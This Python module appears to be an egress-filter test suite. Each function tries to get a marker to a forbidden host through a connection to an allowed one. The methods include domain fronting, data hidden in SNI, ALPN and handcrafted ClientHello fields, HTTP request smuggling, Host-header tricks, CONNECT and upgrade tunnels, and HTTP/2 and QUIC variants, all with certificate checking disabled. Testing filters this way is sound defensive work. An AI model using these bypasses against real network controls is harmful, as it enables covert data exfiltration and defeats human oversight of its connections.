"""Through what is allowed: the door takes a connection to an allowed name, and the data is meant for another."""

from __future__ import annotations

import os
import socket
import ssl
import struct
from collections.abc import Iterable
from contextlib import suppress
from functools import partial

from .attempt import Try, attempt, must_one


def allowed_address(it: Try) -> str:
    """Where the allowed name is, by the system's resolver, as any program asks."""
    return str(socket.getaddrinfo(it.to.allowed, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])


def blind(alpn: Iterable[str] = ()) -> ssl.SSLContext:
    """A client that trusts everyone."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if names := list(alpn):
        context.set_alpn_protocols(names)
    return context


def exchange(it: Try, text: bytes, *, sni: str | None, port: int = 443, alpn: Iterable[str] = ()) -> bytes:
    """TLS to the allowed address, bytes in, bytes out."""
    with (
        socket.create_connection((allowed_address(it), port), timeout=1.5) as plain,
        blind(alpn).wrap_socket(plain, server_hostname=sni) as sock,
    ):
        sock.sendall(text)
        sock.settimeout(0.7)
        got = b""
        with suppress(OSError):
            while part := sock.recv(65_536):
                got += part
        return got


def plain(it: Try, text: bytes, port: int) -> bytes:
    """The same without TLS."""
    with socket.create_connection((allowed_address(it), port), timeout=1.5) as sock:
        sock.sendall(text)
        sock.settimeout(0.7)
        with suppress(OSError):
            return sock.recv(65_536)
        return b""


def get(host: str, target: str, *more: str) -> bytes:
    """A request as bytes, with nothing corrected."""
    return "\r\n".join([f"GET {target} HTTP/1.1", f"host: {host}", *more, "", ""]).encode()


@attempt("sni of another", "TLS to the allowed address, in the name of a host that is not", as_root=False)
def _other_sni(it: Try) -> None:
    exchange(it, get(it.to.forbidden, f"/open/{it.nonce}"), sni=it.to.forbidden)


@attempt("sni of another, host allowed", "the name in TLS is forbidden, the one in HTTP is not", as_root=False)
def _sni_host(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"/open/{it.nonce}"), sni=it.to.forbidden)


@attempt("domain fronting", "the name in TLS is allowed, the one in HTTP is not", as_root=False)
def _fronting(it: Try) -> None:
    exchange(it, get(it.to.forbidden, f"/open/{it.nonce}"), sni=it.to.allowed)


@attempt("fronting, second request", "the first request of the connection is what is allowed", as_root=False)
def _second(it: Try) -> None:
    text = get(it.to.allowed, "/open/a") + get(it.to.forbidden, f"/open/{it.nonce}")
    exchange(it, text, sni=it.to.allowed)


@attempt("no sni", "TLS without a name, then a forbidden host", as_root=False)
def _no_sni(it: Try) -> None:
    exchange(it, get(it.to.forbidden, f"/open/{it.nonce}"), sni=None)


@attempt("no sni, host allowed", "TLS without a name", as_root=False)
def _no_sni_allowed(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"/open/{it.nonce}"), sni=None)


@attempt("data in the sni", "the name in TLS is the data", as_root=False)
def _sni_data(it: Try) -> None:
    exchange(it, get(it.to.allowed, "/open/a"), sni=f"{it.nonce}.{it.to.allowed}")


@attempt("data in the alpn", "the protocol's name is the data", as_root=False)
def _alpn(it: Try) -> None:
    exchange(it, get(it.to.allowed, "/open/a"), sni=it.to.allowed, alpn=[it.nonce, "http/1.1"])


def hello(name: str, extensions: Iterable[tuple[int, bytes]] = (), *, session: bytes = b"", rand: bytes = b"") -> bytes:
    """A ClientHello by hand, in one record."""
    host = name.encode()
    sni = struct.pack("!HBH", len(host) + 3, 0, len(host)) + host
    known = [(0, sni), (10, b"\0\x02\0\x1d"), (13, b"\0\x04\x04\x03\x08\x04"), (43, b"\x02\x03\x04")]
    known.append((51, b"\0\x24\0\x1d\0\x20" + os.urandom(32)))
    body = b"".join(struct.pack("!HH", kind, len(text)) + text for kind, text in (*known, *extensions))
    text = b"\x03\x03" + (rand or os.urandom(32)) + bytes([len(session)]) + session
    text += b"\0\x04\x13\x01\x13\x02\x01\0" + struct.pack("!H", len(body)) + body
    shake = b"\x01" + len(text).to_bytes(3, "big") + text
    return b"\x16\x03\x01" + struct.pack("!H", len(shake)) + shake


@attempt("encrypted client hello", "an ECH extension whose payload is the data", as_root=False)
def _ech(it: Try) -> None:
    payload = b"\0\0\x01\0\x01\x07" + struct.pack("!H", 32) + os.urandom(32) + struct.pack("!H", 16) + it.mark
    plain(it, hello(it.to.allowed, [(0xFE0D, payload)]), 443)


@attempt(
    "esni and unknown extensions", "old ESNI, padding, a private extension, a ticket, carrying the data", as_root=False
)
def _esni(it: Try) -> None:
    for kind in (0xFFCE, 21, 35, 0x6A6A, 0xFF77):
        plain(it, hello(it.to.allowed, [(kind, it.mark)]), 443)


@attempt("data in the hello's random", "random and session id are the data", as_root=False)
def _random(it: Try) -> None:
    plain(it, hello(it.to.allowed, session=it.mark * 2, rand=it.mark * 2), 443)


@attempt("two names in the hello", "the second name is forbidden and carries the data", as_root=False)
def _two_names(it: Try) -> None:
    first, second = it.to.allowed.encode(), f"{it.nonce}.{it.to.forbidden}".encode()
    names = b"".join(b"\0" + struct.pack("!H", len(name)) + name for name in (first, second))
    plain(it, hello(it.to.allowed, [(0, struct.pack("!H", len(names)) + names)]), 443)


@attempt("host with port tricks", "spellings of the host that two readers take for two hosts", as_root=False)
def _spellings(it: Try) -> None:
    allowed, forbidden = it.to.allowed, it.to.forbidden
    spelled = (
        f"{allowed}:8443",
        f"{forbidden}:443",
        f"{allowed}:443@{forbidden}",
        f"{allowed}@{forbidden}",
        f"{forbidden}#{allowed}",
        f"{forbidden}/{allowed}",
        f"{forbidden}\\{allowed}",
        f"{allowed}.{forbidden}",
        f"{forbidden}\t{allowed}",
        f"{allowed}, {forbidden}",
        f"{allowed}:443:{forbidden}",
    )
    must_one(partial(exchange, it, get(host, f"/open/{it.nonce}"), sni=allowed) for host in spelled)


@attempt("two hosts", "two Host fields", as_root=False)
def _hosts(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"/open/{it.nonce}", f"host: {it.to.forbidden}"), sni=it.to.allowed)


@attempt("absolute form", "an absolute URL of another host inside the tunnel", as_root=False)
def _absolute(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"https://{it.to.forbidden}/open/{it.nonce}"), sni=it.to.allowed)


@attempt("forwarding fields", "fields by which a proxy could be told another host", as_root=False)
def _forwarded(it: Try) -> None:
    fields = [f"{name}: {it.to.forbidden}/{it.nonce}" for name in ("x-original-url", "x-rewrite-url")]
    exchange(it, get(it.to.allowed, "/closed", *fields, f"x-forwarded-host: {it.nonce}"), sni=it.to.allowed)


@attempt("path outside the contract", "the allowed host, a path that is not", as_root=False)
def _path(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"/closed/{it.nonce}"), sni=it.to.allowed)


@attempt("path tricks", "ways to write a path that is outside", as_root=False)
def _paths(it: Try) -> None:
    for target in (f"/open/../closed/{it.nonce}", f"/open/%2e%2e/closed/{it.nonce}", f"/open\\..\\closed\\{it.nonce}"):
        exchange(it, get(it.to.allowed, target), sni=it.to.allowed)


@attempt(
    "method outside the contract",
    "POST, PUT, TRACE and a method of one's own, where only GET is allowed",
    as_root=False,
)
def _method(it: Try) -> None:
    for method in ("POST", "PUT", "TRACE", "PROPFIND", "LEAK"):
        text = f"{method} /open/a HTTP/1.1\r\nhost: {it.to.allowed}\r\ncontent-length: 16\r\n\r\n".encode() + it.mark
        exchange(it, text, sni=it.to.allowed)


@attempt("smuggling: two lengths", "Content-Length and Transfer-Encoding disagree", as_root=False)
def _cl_te(it: Try) -> None:
    inner = get(it.to.forbidden, f"/open/{it.nonce}")
    head = f"GET /open/a HTTP/1.1\r\nhost: {it.to.allowed}\r\ncontent-length: {len(inner) + 5}\r\n"
    exchange(it, (head + "transfer-encoding: chunked\r\n\r\n0\r\n\r\n").encode() + inner, sni=it.to.allowed)


@attempt("smuggling: chunks", "spellings of chunked, and what follows the last chunk", as_root=False)
def _te(it: Try) -> None:
    inner = get(it.to.forbidden, f"/open/{it.nonce}")
    for spelled in (
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
        "transfer-encoding: chunked, identity",
    ):
        head = f"GET /open/a HTTP/1.1\r\nhost: {it.to.allowed}\r\n{spelled}\r\ncontent-length: 5\r\n\r\n0\r\n\r\n"
        exchange(it, head.encode() + inner, sni=it.to.allowed)


@attempt("smuggling: line ends", "a request hidden behind bare line feeds and folded fields", as_root=False)
def _lines(it: Try) -> None:
    for middle in ("\n\n", "\r\r", "\n\r\n", "\x0b\r\n"):
        text = f"GET /open/a HTTP/1.1\r\nhost: {it.to.allowed}\r\nx: a{middle}GET /closed/{it.nonce} HTTP/1.1\r\n"
        exchange(it, (text + f"host: {it.to.forbidden}\r\n\r\n").encode(), sni=it.to.allowed)


@attempt("connect inside tls", "CONNECT to another host inside the tunnel", as_root=False)
def _connect(it: Try) -> None:
    text = f"CONNECT {it.to.public4}:443 HTTP/1.1\r\nhost: {it.to.public4}:443\r\n\r\n".encode()
    exchange(it, text + it.mark, sni=it.to.allowed)


@attempt("connect, plain", "CONNECT straight to the listener that takes allowed connections", as_root=False)
def _connect_plain(it: Try) -> None:
    text = f"CONNECT {it.to.forbidden}:443 HTTP/1.1\r\nhost: {it.to.forbidden}\r\n\r\n".encode()
    must_one(partial(plain, it, text + it.mark, port) for port in (443, 80))


@attempt("websocket to another", "an upgrade, for another host and on a path outside", as_root=False)
def _websocket(it: Try) -> None:
    fields = (
        "connection: upgrade",
        "upgrade: websocket",
        "sec-websocket-version: 13",
        f"sec-websocket-key: {it.nonce}==",
    )
    for host, path in ((it.to.forbidden, "/open/a"), (it.to.allowed, "/closed/a")):
        exchange(it, get(host, path, *fields) + b"\x81\x10" + it.mark, sni=it.to.allowed)


@attempt("upgrade to raw", "h2c and made-up upgrades, bytes behind them", as_root=False)
def _upgrade(it: Try) -> None:
    for protocol in ("h2c", "raw", "TLS/1.0"):
        text = get(it.to.allowed, "/open/a", "connection: upgrade", f"upgrade: {protocol}")
        exchange(it, text + it.mark, sni=it.to.allowed)


@attempt("plain http on 443", "no TLS where TLS is expected", as_root=False)
def _plain_443(it: Try) -> None:
    plain(it, get(it.to.allowed, f"/open/{it.nonce}"), 443)


@attempt("plain http on 80", "the allowed name without TLS, which the contract does not allow", as_root=False)
def _plain_80(it: Try) -> None:
    plain(it, get(it.to.allowed, f"/open/{it.nonce}"), 80)


@attempt("tls on 80", "TLS where plain HTTP is expected", as_root=False)
def _tls_80(it: Try) -> None:
    exchange(it, get(it.to.allowed, f"/open/{it.nonce}"), sni=it.to.allowed, port=80)


@attempt("ssh on 443", "another protocol on an allowed address", as_root=False)
def _ssh(it: Try) -> None:
    plain(it, b"SSH-2.0-" + it.mark + b"\r\n", 443)


@attempt("raw bytes on every port of the allowed", "the allowed address, ports that are not", as_root=False)
def _ports(it: Try) -> None:
    must_one(partial(plain, it, it.mark, port) for port in (22, 25, 53, 853, 8080, 8443, 9418, 65_000))


@attempt("raw bytes behind tls", "no HTTP inside", as_root=False)
def _raw(it: Try) -> None:
    for text in (it.mark * 4, b"\0" * 8 + it.mark, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + it.mark):
        exchange(it, text, sni=it.to.allowed)


@attempt("tls inside tls", "a second handshake, for another host, inside the first", as_root=False)
def _nested(it: Try) -> None:
    exchange(it, hello(f"{it.nonce}.{it.to.forbidden}"), sni=it.to.allowed)


def _frame(kind: int, flags: int, stream: int, text: bytes) -> bytes:
    return len(text).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + text


def _literal(name: str, value: str) -> bytes:
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _h2(it: Try, authority: str, path: str, *more: tuple[str, str]) -> bytes:
    block = b"".join(
        _literal(name, value)
        for name, value in ((":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), *more)
    )
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + _frame(1, 5, 1, block)


@attempt("h2: authority of another", "HTTP/2 for another host on an allowed connection", as_root=False)
def _authority(it: Try) -> None:
    for alpn in (["h2"], []):
        exchange(it, _h2(it, it.to.forbidden, f"/open/{it.nonce}"), sni=it.to.allowed, alpn=alpn)


@attempt("h2: host beside authority", "the two name two hosts", as_root=False)
def _h2_host(it: Try) -> None:
    text = _h2(it, it.to.allowed, f"/open/{it.nonce}", ("host", it.to.forbidden))
    exchange(it, text, sni=it.to.allowed, alpn=["h2"])


@attempt("h2, plain", "HTTP/2 with prior knowledge, without TLS", as_root=False)
def _h2_plain(it: Try) -> None:
    must_one(partial(plain, it, _h2(it, it.to.forbidden, f"/open/{it.nonce}"), port) for port in (443, 80))


@attempt("redirect", "an allowed answer points elsewhere: who follows?", as_root=False)
def _redirect(it: Try) -> None:
    """The allowed host is asked with the nonce backwards, and puts it straight into the Location."""
    got = exchange(it, get(it.to.allowed, f"/open/redirect/{it.nonce[::-1]}"), sni=it.to.allowed)
    for line in got.decode("latin-1").splitlines():
        if line.lower().startswith("location: https://"):
            host, _, path = line[18:].partition("/")
            with (
                socket.create_connection((host, 443), timeout=1.5) as to,
                blind().wrap_socket(to, server_hostname=host) as sock,
            ):
                sock.sendall(get(host, "/" + path))
                with suppress(OSError):
                    sock.recv(100)


@attempt("alternative service", "an answer that names another port and QUIC: who uses it?", as_root=False)
def _alternative(it: Try) -> None:
    got = exchange(it, get(it.to.allowed, "/open/alt"), sni=it.to.allowed)
    if b"alt-svc" not in got.lower():
        raise OSError("no alternative was offered")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"\xc3\0\0\0\x01\x10" + it.mark, (allowed_address(it), 8443))
